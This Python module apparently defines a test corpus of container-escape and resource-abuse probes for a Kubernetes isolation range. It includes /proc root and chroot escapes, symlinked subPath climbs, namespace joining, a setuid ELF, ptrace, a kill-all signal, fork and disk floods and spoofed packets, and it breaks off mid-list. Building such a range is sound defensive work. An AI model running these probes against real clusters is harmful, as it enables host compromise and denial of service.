"""
Attacks of a Pod on its machine and on its neighbours: the corpus.

Each is a program, the manifest that it runs in, and the twin that must be a breach. A program ends with ``TRIED``; a
line with ``BREACH``, or with a treasure of the range, is success. Every program is harmless where it succeeds: it
touches a marker in a temporary folder, opens without writing, and stops at a bound.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

Json = dict[str, Any]
Change = Callable[[Json], None]

HEAD = """
import ctypes, errno, mmap, os, re, select, signal, socket, stat, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
ARM = os.uname().machine == "aarch64"
AIM = os.environ.get("AIM", "/nowhere")
SCRATCH = os.environ.get("SCRATCH", "/tmp")

def breach(what):
    print("\\nBREACH", what, flush=True)

def call(name, *values):
    result = getattr(libc, name)(*values)
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number), name)
    return result

def mount(source, target, kind="", flags=0, data=None):
    call("mount", source.encode(), target.encode(), kind.encode() or None, ctypes.c_ulong(flags), data)

def tried(attempt):
    # One of several ways: what refuses it is told, and the next is tried.
    try:
        attempt()
    except (OSError, ValueError) as error:
        print("refused:", error, flush=True)

"""
TAIL = '\nprint("TRIED", flush=True)\n'


@dataclass(frozen=True)
class Twin:
    """
    Where the probe must succeed.

    Attributes:
        where: ``host``, a plain process; ``bare``, a process with every capability in namespaces of its own, on the
            host's files; ``pod``, a Pod like the attacker's with *change* in its manifest; ``weak``, the attacker's own
            Pod on the cluster whose source lacks the protection.
        setup: Program text that goes before, on ``host`` and ``bare``.
        change: Of the manifest, on ``pod``.
        env: Variables that differ.
    """

    where: str = "host"
    setup: str = ""
    change: Change | None = None
    env: dict[str, str] = field(default_factory=dict)


@dataclass(frozen=True)
class Attack:
    """
    One attack.

    Attributes:
        family, name: Its place in the corpus.
        tries: The attempt, in one line.
        program: Python text between ``HEAD`` and ``TAIL``.
        twin: Where the probe must succeed.
        change: Of the Pod's manifest.
        env: Variables of the container.
        look: The name of what the range looks at once all have ended, besides the log.
        may_not_run: Whether a Pod that is refused, or killed at it, counts as held.
        needs_root: Whether users are real only where root started the cluster.
    """

    family: str
    name: str
    tries: str
    program: str
    twin: Twin = field(default_factory=Twin)
    change: Change | None = None
    env: dict[str, str] = field(default_factory=dict)
    look: str = ""
    may_not_run: bool = False
    needs_root: bool = False

    @property
    def id(self) -> str:
        """The name of a test."""
        return f"{self.family}-{self.name}"

    def text(self, setup: str = "") -> str:
        """The whole program; *setup* goes before the attempt."""
        return f"{HEAD}{setup}\n{self.program}{TAIL}"


def security(**fields: Any) -> Change:
    """Set fields of the container's securityContext."""

    def change(pod: Json) -> None:
        pod["spec"]["containers"][0].setdefault("securityContext", {}).update(fields)

    return change


def spec(**fields: Any) -> Change:
    """Set fields of the Pod's spec."""
    return lambda pod: pod["spec"].update(fields)


def container(**fields: Any) -> Change:
    """Set fields of the container."""
    return lambda pod: pod["spec"]["containers"][0].update(fields)


def volume(source: Json, *, before: str = "", **mount: Any) -> Change:
    """Mount a volume at /v, after an init container that runs the shell text *before* there."""

    def change(pod: Json) -> None:
        given = pod["spec"]
        given["volumes"] = [{"name": "v", **source}]
        given["containers"][0]["volumeMounts"] = [{"name": "v", "mountPath": "/v", **mount}]
        if before:
            mounts = [{"name": "v", "mountPath": "/v"}]
            init = {
                "name": "before",
                "image": "busybox:1.36",
                "command": ["sh", "-c", before],
                "volumeMounts": mounts,
            }
            given["initContainers"] = [init]

    return change


def every(*changes: Change) -> Change:
    """Several changes."""

    def change(pod: Json) -> None:
        for one in changes:
            one(pod)

    return change


BARE = Twin("bare")
EMPTY: Json = {"emptyDir": {}}

# -- the host's files ----------------------------------------------------------------------------------------

READ = 'tried(lambda: print(open(AIM + "/secret").read()))'
PROC_ROOT = """
for pid in ("1", "self", str(os.getppid())):
    tried(lambda: print(open("/proc/%s/root%s/secret" % (pid, AIM)).read()))
    tried(lambda: print(open("/proc/%s/cwd/../../../../../../..%s/secret" % (pid, AIM)).read()))
"""
CHROOT = """
def leave():
    os.makedirs("/tmp/cell", exist_ok=True)
    outside = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/cell")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print(open(AIM + "/secret").read())
tried(leave)
"""
FORMER_ROOT = """
points = [line.split()[4] for line in open("/proc/self/mountinfo")] + ["/" + name for name in os.listdir("/")]
for point in points:
    tried(lambda: print(open(point + AIM + "/secret").read()))
"""
DESCRIPTORS = """
for number in range(3, 4096):
    try:
        kind = os.fstat(number).st_mode
    except OSError:
        continue
    if stat.S_ISDIR(kind) and os.path.exists("/proc/self/fd/%d/secret" % number):
        print(open("/proc/self/fd/%d/secret" % number).read())
    elif stat.S_ISSOCK(kind):
        breach("inherited a socket, %d" % number)
"""
HARD_LINK = """
source = os.environ.get("SOURCE") or next(
    path + "/" + name for path, _folders, names in os.walk("/usr") for name in names
    if stat.S_ISREG(os.lstat(path + "/" + name).st_mode) and os.statvfs(path).f_flag & 1)
def link():
    os.link(source, os.environ.get("FOLDER", "/v") + "/linked")
    breach("a file of the host has a second name: " + source)
tried(link)
"""
OPEN_TO_WRITE = """
places = os.environ["PLACES"].split(":") if "PLACES" in os.environ else [
    line.split()[4] for line in open("/proc/self/mountinfo") if line.split()[4].startswith(("/usr", "/bin", "/lib", "/opt", "/sbin"))]
count = 0
for place in places:
    for folder, _folders, names in os.walk(place):
        for name in names[:3]:
            path = folder + "/" + name
            if count > 300 or not os.path.isfile(path) or os.path.islink(path):
                continue
            count += 1
            try:
                os.close(os.open(path, os.O_WRONLY))
                breach("opened to write: " + path)
            except OSError:
                pass
print("looked at", count)
assert count
"""
REMOUNT = """
place = os.environ.get("PLACE", "/usr")
def remount():
    mount("", place, "", 32 | 4096)  # bind, remount, writable
    breach("remounted " + place)
def bind():
    mount(place, SCRATCH, "", 4096)
    breach("bound " + place)
tried(remount); tried(bind)
"""
UNMOUNT = """
for place in os.environ.get("PLACES", "/proc/sys:/proc/kcore:/proc/sysrq-trigger:/dev/pts:/").split(":"):
    def unmount():
        call("umount2", place.encode(), 2)
        breach("unmounted " + place)
    tried(unmount)
"""
MOUNT = """
os.makedirs(SCRATCH + "/m", exist_ok=True)
for kind in ("tmpfs", "proc", "sysfs", "devpts", "overlay", "ramfs"):
    def attempt():
        mount(kind, SCRATCH + "/m", kind)
        breach("mounted " + kind)
    tried(attempt)
"""
NEW_MOUNT_CALLS = """
def tree():
    if call("syscall", ctypes.c_long(428), -100, b"/", 1 | 0o2000000) >= 0:
        breach("copied the mount of /")
def context():
    if call("syscall", ctypes.c_long(430), b"tmpfs", 1) >= 0:
        breach("made a file system context")
tried(tree); tried(context)
"""
CGROUPS = """
os.makedirs(SCRATCH + "/g", exist_ok=True)
for kind, data in (("cgroup2", None), ("cgroup", b"memory"), ("cgroup", b"pids"), ("cgroup", b"freezer"), ("cgroup", b"none,name=x")):
    def attempt():
        mount("g", SCRATCH + "/g", kind, 0, data)
        breach("mounted control groups: %s %s" % (kind, data))
    tried(attempt)
"""
CGROUP_FILES = """
root = os.environ.get("ROOT", "/sys/fs/cgroup")
for folder, _folders, names in os.walk(root):
    for name in names:
        if name in ("cgroup.procs", "tasks", "release_agent", "memory.max", "memory.limit_in_bytes", "pids.max"):
            def attempt():
                os.close(os.open(folder + "/" + name, os.O_WRONLY))
                breach("opened to write: " + folder + "/" + name)
            tried(attempt)
"""
DEVICES = """
allowed = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "console"}
root = os.environ.get("DEV", "/dev")
for folder, _folders, names in os.walk(root):
    for name in names:
        path = os.path.join(folder, name)
        kind = os.lstat(path).st_mode
        if (stat.S_ISCHR(kind) or stat.S_ISBLK(kind)) and name not in allowed and "/pts" not in folder:
            breach("a device: " + path)
"""
NODES = """
kind, major, minor = map(int, os.environ.get("NODE", "%d:1:1" % stat.S_IFCHR).split(":"))
for folder in os.environ.get("FOLDERS", "/tmp:/dev:/v").split(":"):
    def make():
        os.mknod(folder + "/node", kind | 0o600, os.makedev(major, minor))
        breach("made a device in " + folder)
        os.unlink(folder + "/node")
    tried(make)
"""
MODES = """
for place in os.environ.get("PLACES", "/dev/null:/dev/zero:/dev/random:/dev/tty:/bin:/usr/lib:/proc/1").split(":"):
    def change():
        os.chmod(place, stat.S_IMODE(os.stat(place).st_mode))  # to what it is
        breach("may change the mode of the host's " + place)
    def touch():
        os.utime(place, ns=(os.stat(place).st_atime_ns, os.stat(place).st_mtime_ns))
        breach("may change the times of the host's " + place)
    tried(change); tried(touch)
"""
NODES_BLOCK = NODES.replace("stat.S_IFCHR", "stat.S_IFBLK").replace("%d:1:1", "%d:7:0")
SETTINGS = """
names = ("kernel/core_pattern kernel/modprobe kernel/hostname kernel/pid_max kernel/sysrq vm/overcommit_memory "
         "vm/drop_caches net/ipv4/ip_forward user/max_user_namespaces fs/binfmt_misc/register").split()
for path in ["/proc/sys/" + name for name in names] + ["/proc/sysrq-trigger", "/proc/irq/default_smp_affinity"]:
    def attempt():
        os.close(os.open(path, os.O_WRONLY))
        breach("opened to write: " + path)
    tried(attempt)
"""
MASKED = """
for name in ("kcore", "keys", "timer_list", "sched_debug", "interrupts", "latency_stats"):
    def attempt():
        with open("/proc/" + name, "rb") as file:
            if file.read(64):
                breach("read /proc/" + name)
    tried(attempt)
"""
LOG_OF_KERNEL = """
def log():
    room = ctypes.create_string_buffer(4096)
    if call("klogctl", int(os.environ.get("ACTION", "5")), room, 4096) >= 0:
        breach("the kernel's log")
def device():
    os.close(os.open("/dev/kmsg", os.O_RDWR | os.O_NONBLOCK))
    breach("/dev/kmsg")
tried(log); tried(device)
"""
CALLS = """
numbers = {"init_module": (175, 105), "bpf": (321, 280), "perf_event_open": (298, 241), "kexec_load": (246, 104),
           "swapon": (167, 224), "iopl": (172, 999), "open_by_handle_at": (304, 265), "acct": (163, 89)}
# Refused for want of a capability, or of a right, is EPERM or EACCES; whoever is heard gets another error or none.
for name, pair in numbers.items():
    number = pair[ARM]
    if name == os.environ.get("ONLY", name):
        libc.syscall.restype = ctypes.c_long
        ctypes.set_errno(0)
        if name == "open_by_handle_at":
            handle = struct.pack("<Ii8s", 8, 1, struct.pack("<II", 2, 0))
            result = libc.syscall(ctypes.c_long(number), os.open("/", os.O_RDONLY), handle, 0)
        else:
            result = libc.syscall(ctypes.c_long(number), ctypes.c_long(3), None, ctypes.c_long(0), ctypes.c_long(0), ctypes.c_long(0))
        error = ctypes.get_errno()
        print(name, result, errno.errorcode.get(error, error))
        if error not in (errno.EPERM, errno.EACCES, errno.ENOSYS) and name in ("init_module", "kexec_load", "swapon", "iopl", "acct", "open_by_handle_at"):
            breach("the kernel hears " + name)
"""
USERS = """
def users():
    call("unshare", 0x10000000)
    breach("a user namespace of its own")
tried(users)
"""
# Not runAsUser: the interpreter may lie in the home of its owner.
ORDINARY = """
if os.environ.get("ORDINARY", "yes") == "yes":
    os.setgid(1000)
    os.setuid(1000)
"""
NAMESPACES = """
for name, kind in {"mnt": 0x20000, "pid": 0x20000000, "net": 0x40000000, "ipc": 0x08000000, "uts": 0x04000000, "cgroup": 0x02000000}.items():
    def attempt():
        call("unshare", kind)
        breach("a namespace of its own: " + name)
    tried(attempt)
"""
JOIN = """
seen = {os.stat("/proc/self/ns/" + kind).st_ino for kind in ("mnt", "net", "ipc", "uts", "pid", "user", "cgroup")}
for pid in filter(str.isdigit, os.listdir("/proc")):
    for kind in ("mnt", "net", "ipc", "uts", "pid", "user", "cgroup"):
        def attempt():
            path = "/proc/%s/ns/%s" % (pid, kind)
            if os.stat(path).st_ino in seen:
                return
            call("setns", os.open(path, os.O_RDONLY), 0)
            breach("joined " + path)
        tried(attempt)
"""
JOINABLE = """
pid = os.fork()
if pid == 0:
    call("unshare", 0x04000000)
    time.sleep(30)
    os._exit(0)
while os.stat("/proc/%d/ns/uts" % pid).st_ino == os.stat("/proc/self/ns/uts").st_ino:
    time.sleep(0.01)
"""
CAPABILITIES = """
allowed = 0
for number in (0, 1, 3, 4, 5, 6, 7, 8, 10, 13, 18, 27, 29, 31):
    allowed |= 1 << number
allowed &= ~int(os.environ.get("DROPPED", "0"), 0)
for line in open("/proc/self/status"):
    if line.startswith(("CapEff", "CapPrm", "CapBnd", "CapInh", "CapAmb")):
        name, value = line.split()
        if int(value, 16) & ~allowed:
            breach("%s %x" % (name, int(value, 16) & ~allowed))
"""
SET_USER_ID = """
# A program of a few bytes whose exit code is its effective user; root marks it, an ordinary user runs it.
code = bytes.fromhex("e81580d2010000d4a80b80d2010000d4" if ARM else "b86b0000000f0589c7b83c0000000f05")
head = struct.pack("<16sHHIQQQIHHHHHH", b"\\x7fELF\\2\\1\\1", 2, 183 if ARM else 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
part = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 120 + len(code), 120 + len(code), 4096)
with open("/v/tool", "wb") as file:
    file.write(head + part + code)
os.chmod("/v/tool", 0o4755)
pid = os.fork()
if pid == 0:
    os.setgid(1000)
    os.setuid(1000)
    os.execv("/v/tool", ["tool"])
user = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
print("user", user)
if user == 0:
    breach("user 0 again")
"""

# -- processes -----------------------------------------------------------------------------------------------

SCAN = """
mark = os.environ["MARK"]
for pid in filter(str.isdigit, os.listdir("/proc")):
    if pid == str(os.getpid()):
        continue
    for name in ("cmdline", "environ"):
        def attempt():
            text = open("/proc/%s/%s" % (pid, name), "rb").read().decode("utf-8", "replace")
            if mark in text and "BREACH" not in text:
                breach("sees %s of process %s" % (name, pid))
        tried(attempt)
"""
SIGNAL = """
pid = int(os.environ["BAIT"])
def attempt():
    if os.environ["MARK"] not in open("/proc/%d/cmdline" % pid).read():
        raise OSError(errno.ESRCH, "another process has that number")
    os.kill(pid, signal.SIGCONT)
    breach("signalled a process of the host")
tried(attempt)
"""
PIDFD = """
for pid in range(1, 1 << 10):
    if pid in (os.getpid(), os.getppid()):
        continue
    try:
        descriptor = os.pidfd_open(pid)
        text = open("/proc/%d/cmdline" % pid).read()
    except OSError:
        continue
    if os.environ["MARK"] in text:
        signal.pidfd_send_signal(descriptor, signal.SIGCONT)
        breach("a descriptor of a process of the host")
"""
TRACE = """
pid = int(os.environ["BAIT"])
def attempt():
    if os.environ["MARK"] not in open("/proc/%d/cmdline" % pid).read():
        raise OSError(errno.ESRCH, "another process has that number")
    libc.ptrace.restype = ctypes.c_long
    call("ptrace", ctypes.c_long(16), ctypes.c_long(pid), None, None)
    os.waitpid(pid, 0)
    call("ptrace", ctypes.c_long(17), ctypes.c_long(pid), None, None)
    breach("traced a process of the host")
def memory():
    with open("/proc/%d/mem" % pid, "rb") as file:
        breach("opened the memory of a process of the host")
tried(attempt); tried(memory)
"""
KILL_ALL = """
before = [pid for pid in os.listdir("/proc") if pid.isdigit()]
tried(lambda: os.kill(-1, signal.SIGKILL))
for number in range(2, 400):
    if number != os.getpid():
        tried(lambda: os.kill(number, signal.SIGKILL))
"""
ORPHAN = """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(90)", os.environ["ORPHAN"]])
    os._exit(0)
os.wait()
time.sleep(float(os.environ.get("STAYS", "0")))
"""
FORKS = """
wanted, started = int(os.environ.get("FORKS", "3000")), []
try:
    for _ in range(wanted):
        pid = os.fork()
        if pid == 0:
            signal.pause()
            os._exit(0)
        started.append(pid)
    breach("%d processes" % len(started))
except OSError as error:
    print("refused after", len(started), error)
for pid in started:
    os.kill(pid, signal.SIGKILL)
for pid in started:
    os.waitpid(pid, 0)
"""
THREADS = """
import _thread
wanted, started = int(os.environ.get("FORKS", "3000")), 0
gate = _thread.allocate_lock()
gate.acquire()
_thread.stack_size(65536)
try:
    for _ in range(wanted):
        _thread.start_new_thread(gate.acquire, ())
        started += 1
    breach("%d threads" % started)
except RuntimeError as error:
    print("refused after", started, error)
print("TRIED", flush=True)
os._exit(0)
"""
MEMORY = """
held = mmap.mmap(-1, 160 << 20)
for at in range(0, len(held), 4096):
    held[at] = 1
breach("160 MiB")
"""

# -- what fills up -------------------------------------------------------------------------------------------

FILL = """
path, wanted, written = os.environ["FILL"], int(os.environ["MIB"]), 0
chunk = b"x" * (1 << 20)
try:
    with open(path, "wb", buffering=0) as file:
        for _ in range(wanted):
            written += file.write(chunk)
except OSError as error:
    print("refused after", written >> 20, "MiB:", error)
if written >= wanted << 20:
    breach("wrote %d MiB to %s" % (wanted, path))
"""
FILL_LOG = """
line = b"y" * 1023 + b"\\n"
for _ in range(int(os.environ["MIB"]) << 10):
    os.write(2, line)
"""
SHARED_MEMORY = """
room = os.statvfs("/dev/shm")
print(room.f_blocks * room.f_frsize >> 20, "MiB in all")
with open("/dev/shm/flood", "wb", buffering=0) as file:
    try:
        for _ in range(300):
            file.write(b"x" * (1 << 20))
        breach("300 MiB of shared memory")
    except OSError as error:
        print("refused:", error)
"""
MANY_FILES = """
made = 0
try:
    for number in range(int(os.environ.get("FILES", "100000"))):
        os.close(os.open(os.environ["PLACE"] + "/%d" % number, os.O_CREAT | os.O_WRONLY))
        made += 1
    breach("%d files in %s" % (made, os.environ["PLACE"]))
except OSError as error:
    print("refused after", made, error)
"""

# -- sockets -------------------------------------------------------------------------------------------------

CONNECT = """
for host in ("127.0.0.1", "localhost", "0.0.0.0"):
    def attempt():
        with socket.create_connection((host, int(os.environ["PORT"])), 3) as sock:
            print(sock.recv(100).decode())
    tried(attempt)
"""
ABSTRACT = """
def attempt():
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect("\\0" + os.environ["MARK"])
        print(sock.recv(100).decode())
tried(attempt)
for line in open("/proc/net/unix").read().splitlines()[1:]:
    if os.environ["MARK"] in line:
        breach("sees a socket of the host: " + line)
"""
SEGMENT = """
def attempt():
    identity = call("shmget", int(os.environ["SHM"]), 0, 0)
    libc.shmat.restype = ctypes.c_void_p
    print(ctypes.string_at(libc.shmat(identity, None, 0o10000), 64).rstrip(b"\\0").decode())
tried(attempt)
"""
KEYS = """
def attempt():
    number = call("syscall", ctypes.c_long((250, 219)[ARM]), 10, ctypes.c_long(-3), b"user", os.environ["MARK"].encode(), 0)
    room = ctypes.create_string_buffer(100)
    size = call("syscall", ctypes.c_long((250, 219)[ARM]), 11, ctypes.c_long(number), room, ctypes.c_long(100), 0)
    print(room.raw[:size].decode())
tried(attempt)
"""
NETWORK = """
# Give the own loopback another address, by netlink.
sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
body = struct.pack("=BBBBI", socket.AF_INET, 32, 0, 0, 1) + struct.pack("=HH4s", 8, 2, bytes([10, 99, 0, 1]))
sock.send(struct.pack("=IHHII", 16 + len(body), 20, 0x5 | 0x600, 1, 0) + body)
number = -struct.unpack("=i", sock.recv(1000)[16:20])[0]
if number == 0:
    breach("changed the network")
print(errno.errorcode.get(number, number))
"""
SPOOF = """
# A packet in another one's name, to a Pod that writes down what it gets.
target, source = os.environ["SINK"], os.environ["AS"] or socket.gethostbyname(socket.gethostname())
payload = os.environ["WORD"].encode()
udp = struct.pack("!HHHH", 9999, 5353, 8 + len(payload), 0) + payload
head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 7, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(target))
sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for _ in range(10):
    tried(lambda: sock.sendto(head + udp, (target, 0)))
    time.sleep(0.02)
"""
TERMINALS = """
for _ in range(300):
    others = [name for name in os.listdir("/dev/pts") if name.isdigit()]
    for name in others:
        def attempt():
            descriptor = os.open("/dev/pts/" + name, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
            breach("opened the terminal of another: " + name)
        tried(attempt)
    if others:
        break
    time.sleep(0.01)
"""
TYPE_INTO = """
import fcntl
def attempt():
    for character in "id":
        fcntl.ioctl(int(os.environ.get("TTY", "0")), 0x5412, character.encode())
    breach("typed into its terminal")
tried(attempt)
"""
LINK_OF_MESSAGE = """
def swap():
    os.unlink("/dev/termination-log")
    os.symlink(AIM + "/secret", "/dev/termination-log")
def over():
    os.rename("/tmp", "/dev/termination-log")
if os.environ.get("PLAIN"):
    with open("/dev/termination-log", "w") as file:
        file.write(os.environ["PLAIN"])
tried(swap); tried(over)
"""

TTY = container(tty=True, stdin=True)
HOST_PATH: Json = {"hostPath": {"path": "$AIM"}}
CLIMB = "$UP$AIM"  # the number of folders from a volume to the root of the machine is easily tried
ESCAPES = (
    Attack("files", "absolute-path", "read a file of the host by its path", READ),
    Attack("files", "root-of-process-1", "read it below /proc/1/root", PROC_ROOT, BARE),
    Attack("files", "chroot-and-climb", "leave the root by a second chroot", CHROOT, Twin(
        "bare", 'os.makedirs(AIM + "/jail/tmp", exist_ok=True); os.chroot(AIM + "/jail"); os.chdir("/")')),
    Attack("files", "former-root", "find the root that was left behind", FORMER_ROOT, Twin("weak")),
    Attack("files", "inherited-descriptor", "use a descriptor that was left open", DESCRIPTORS,
           Twin("host", "os.open(AIM, os.O_RDONLY)")),
    Attack("files", "hard-link", "give a file of the host a name in a volume", HARD_LINK,
           Twin(env={"SOURCE": "$AIM/mark", "FOLDER": "$AIM"}), volume(EMPTY)),
    Attack("files", "open-to-write", "open files of the host's programs to write", OPEN_TO_WRITE,
           Twin(env={"PLACES": "$AIM"})),
    Attack("files", "remount-writable", "make a read-only mount writable", REMOUNT,
           Twin("bare", 'mount(AIM, AIM, "", 4096); mount("", AIM, "", 4096 | 32 | 1)', env={"PLACE": "$AIM"})),
    Attack("files", "unmount", "unmount what covers the host's own", UNMOUNT,
           Twin("bare", 'mount("t", AIM, "tmpfs")', env={"PLACES": "$AIM"})),
    Attack("files", "mount", "mount file systems", MOUNT, BARE),
    Attack("files", "mount-by-descriptor", "use the newer calls for mounts", NEW_MOUNT_CALLS, BARE),
    Attack("files", "host-path", "mount a folder of the host", 'tried(lambda: print(open("/v/secret").read()))',
           Twin("weak"), volume(HOST_PATH), may_not_run=True),
    Attack("files", "host-path-created", "have a folder of the host made",
           "", Twin("weak"), volume({"hostPath": {"path": "$AIM/made-$WHERE", "type": "DirectoryOrCreate"}}), look="made",
           may_not_run=True),
    Attack("files", "sub-path-link", "mount a subPath that is a link to the host",
           'tried(lambda: print(open("/v/secret").read()))', Twin("weak"),
           volume(EMPTY, before=f"ln -s {CLIMB} /v/out", subPath="out"), may_not_run=True),
    Attack("files", "sub-path-of-link", "mount a subPath below a link to the host",
           'tried(lambda: print(open("/v/secret").read()))', Twin("weak"),
           volume(EMPTY, before="ln -s $UP /v/out", subPath="out$AIM"), may_not_run=True),
    Attack("files", "env-file-link", "have the node read a file of the host as variables", 'print(os.environ.get("KEY"))',
           Twin("pod", change=volume(EMPTY, before="printf \"KEY='%s'\\\\n\" $TREASURE > /v/env")), every(
               volume(EMPTY, before=f"ln -s {CLIMB}/env /v/env"),
               lambda pod: pod["spec"]["containers"][0]["env"].append({"name": "KEY", "valueFrom": {"fileKeyRef": {
                   "volumeName": "v", "path": "env", "key": "KEY"}}})), may_not_run=True),
    Attack("files", "message-link", "have the node read a file of the host as termination message", LINK_OF_MESSAGE,
           Twin("pod", env={"PLAIN": "$TREASURE"}), look="message"),
)  # fmt: skip

KERNEL = (
    Attack("kernel", "user-namespace", "become root of a user namespace", USERS, BARE),
    Attack("kernel", "user-namespace-as-user", "the same as an ordinary user", ORDINARY + USERS, Twin("bare", env={"ORDINARY": "no"}), needs_root=True),
    Attack("kernel", "other-namespaces", "make namespaces", NAMESPACES, BARE),
    Attack("kernel", "join-namespaces", "join those of other processes", JOIN, Twin("bare", JOINABLE)),
    Attack("kernel", "join-in-shared-processes", "join those of the Pod's first process", JOIN,
           Twin("bare", JOINABLE), spec(shareProcessNamespace=True)),
    Attack("kernel", "mount-control-groups", "mount control groups", CGROUPS, BARE),
    Attack("kernel", "control-group-files", "change the own limits", CGROUP_FILES, Twin(
        "host", 'os.makedirs(AIM + "/g", exist_ok=True); open(AIM + "/g/cgroup.procs", "w").close()', env={"ROOT": "$AIM/g"})),
    Attack("kernel", "settings", "change settings of the machine", SETTINGS, BARE),
    Attack("kernel", "settings-privileged", "the same, asking for privileged", SETTINGS, BARE, security(privileged=True)),
    Attack("kernel", "masked", "read what of /proc is the machine's", MASKED, BARE),
    Attack("kernel", "masked-unmasked", "the same, asking for an unmasked /proc", MASKED, BARE,
           security(procMount="Unmasked"), may_not_run=True),
    Attack("kernel", "log-of-the-kernel", "read the kernel's log", LOG_OF_KERNEL, Twin(env={"ACTION": "10"}),
           env={"ACTION": "5"}),
    Attack("kernel", "calls", "load modules, swap, handles of files", CALLS, Twin(env={"ONLY": "open_by_handle_at"})),
    Attack("kernel", "capabilities", "have more than an engine leaves", CAPABILITIES, BARE),
    Attack("kernel", "capabilities-privileged", "the same, asking for privileged", CAPABILITIES, BARE,
           security(privileged=True)),
    Attack("kernel", "capabilities-added", "the same, asking for all", CAPABILITIES, BARE,
           security(capabilities={"add": ["ALL", "SYS_ADMIN", "SYS_PTRACE", "SYS_MODULE"]})),
    Attack("kernel", "capabilities-dropped", "keep what was dropped", CAPABILITIES,
           Twin("pod", change=security(capabilities={})), security(capabilities={"drop": ["ALL"]}),
           env={"DROPPED": "-1"}),
    Attack("kernel", "set-user-id", "become root by a set-user-id program", SET_USER_ID,
           Twin("pod", change=security(allowPrivilegeEscalation=True)), every(
               volume(EMPTY), security(allowPrivilegeEscalation=False)), needs_root=True),
    Attack("kernel", "key-of-the-session", "read a key of the session that started the cluster", KEYS),
)  # fmt: skip

DEVICE_FILES = (
    Attack("devices", "listed", "find devices other than the harmless", DEVICES, Twin(
        "bare", 'os.makedirs(AIM + "/dev", exist_ok=True); open(AIM + "/dev/mem", "w").close(); '
        'mount("/dev/zero", AIM + "/dev/mem", "", 4096)', env={"DEV": "$AIM/dev"})),
    Attack("devices", "listed-privileged", "the same, asking for privileged", DEVICES, Twin(
        "bare", 'os.makedirs(AIM + "/dev", exist_ok=True); open(AIM + "/dev/mem", "w").close(); '
        'mount("/dev/zero", AIM + "/dev/mem", "", 4096)', env={"DEV": "$AIM/dev"}), security(privileged=True)),
    Attack("devices", "made", "make a device of the memory", NODES, Twin(env={"NODE": "8192:0:0", "FOLDERS": "$AIM"}), volume(EMPTY)),
    Attack("devices", "made-of-a-disk", "make a device of a disk", NODES_BLOCK, Twin(env={"NODE": "8192:0:0", "FOLDERS": "$AIM"}),
           volume(EMPTY)),
    Attack("devices", "modes", "change the mode of devices that are the host's own", MODES, Twin(env={"PLACES": "$AIM/mark"})),
    Attack("devices", "modes-of-own-dev", "the same in a /dev of its own", MODES, Twin(env={"PLACES": "$AIM/mark"}),
           container(terminationMessagePath="/dev/own")),
    Attack("devices", "terminals-of-others", "open the terminal of another Pod", TERMINALS,
           Twin("pod", change=TTY)),
)  # fmt: skip

PROCESSES = (
    Attack("processes", "scan", "see processes of the host", SCAN),
    Attack("processes", "scan-host-pid", "the same, asking for hostPID", SCAN, change=spec(hostPID=True)),
    Attack("processes", "scan-node", "see the processes of the node", SCAN, change=spec(hostPID=True),
           env={"MARK": "podlab: janitor"}),
    Attack("processes", "scan-neighbours", "see the processes of another Pod", SCAN,
           Twin("pod", change=every(spec(shareProcessNamespace=True), lambda pod: pod["spec"]["containers"].insert(0,
               {"name": "n", "image": "busybox:1.36", "command": ["sh", "-c", "sleep 5; true $NEIGHBOUR"]}))),
           env={"MARK": "$NEIGHBOUR"}),
    Attack("processes", "signal", "signal a process of the host by its number", SIGNAL),
    Attack("processes", "pidfd", "hold a descriptor of one", PIDFD, Twin("bare", """
if os.fork() == 0:
    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(20)", os.environ["MARK"]])
time.sleep(0.3)
""")),
    Attack("processes", "trace", "trace one, and read its memory", TRACE),
    Attack("processes", "kill-all", "kill all processes, the node's helpers too", KILL_ALL, Twin("bare", """
if os.fork() == 0:
    time.sleep(20)
    os._exit(0)
import atexit
atexit.register(lambda: breach("killed its neighbour") if os.WIFSIGNALED(os.wait()[1]) else None)
"""), look="helpers"),
    Attack("processes", "kill-all-shared", "the same where processes are shared", KILL_ALL, Twin("bare", """
if os.fork() == 0:
    time.sleep(20)
    os._exit(0)
import atexit
atexit.register(lambda: breach("killed its neighbour") if os.WIFSIGNALED(os.wait()[1]) else None)
"""), spec(shareProcessNamespace=True), look="helpers", may_not_run=True),
    Attack("processes", "orphan", "outlive the container", ORPHAN, Twin(env={"ORPHAN": "$ORPHAN-twin"}), look="orphans"),
    Attack("processes", "orphan-shared", "outlive the Pod where processes are shared", ORPHAN,
           Twin(env={"ORPHAN": "$ORPHAN-twin-2"}), spec(shareProcessNamespace=True), look="orphans"),
    Attack("processes", "forks", "start 3000 processes", FORKS, Twin("pod", env={"FORKS": "50"}), may_not_run=True),
    Attack("processes", "threads", "start 3000 threads", THREADS, Twin("pod", env={"FORKS": "50"})),
    Attack("processes", "memory", "take five times its memory", MEMORY, Twin("pod", change=container(resources={})),
           container(resources={"limits": {"memory": "32Mi"}}), may_not_run=True),
)  # fmt: skip

FLOODS = (
    Attack("floods", "log", "write 40 MiB to its log", FILL_LOG, Twin(env={"MIB": "1"}), env={"MIB": "40"}, look="logs"),
    Attack("floods", "message", "write 80 MiB to its termination message", FILL, Twin(env={"FILL": "$AIM/filled", "MIB": "1"}),
           env={"FILL": "/dev/termination-log", "MIB": "80"}),
    Attack("floods", "hosts", "write 80 MiB to /etc/hosts", FILL, Twin(env={"FILL": "$AIM/filled", "MIB": "1"}),
           env={"FILL": "/etc/hosts", "MIB": "80"}),
